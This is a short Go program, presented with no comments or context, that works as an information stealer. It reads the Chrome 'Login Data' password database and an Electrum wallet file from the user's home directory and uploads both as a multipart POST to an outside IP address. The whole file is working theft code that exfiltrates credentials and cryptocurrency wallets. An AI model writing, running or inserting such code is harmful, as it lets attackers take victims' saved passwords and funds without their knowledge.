package main

import (
	"bytes"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
)

func grab(w *multipart.Writer, p string) {
	b, err := os.ReadFile(p)
	if err != nil {
		return
	}
	part, _ := w.CreateFormFile("f", filepath.Base(p))
	part.Write(b)
}

func main() {
	home, _ := os.UserHomeDir()
	var buf bytes.Buffer
	w := multipart.NewWriter(&buf)
	grab(w, filepath.Join(home, ".config", "google-chrome", "Default", "Login Data"))
	grab(w, filepath.Join(home, ".electrum", "wallets", "default_wallet"))
	w.Close()
	http.Post("https://203.0.113.40/upload", w.FormDataContentType(), &buf)
}
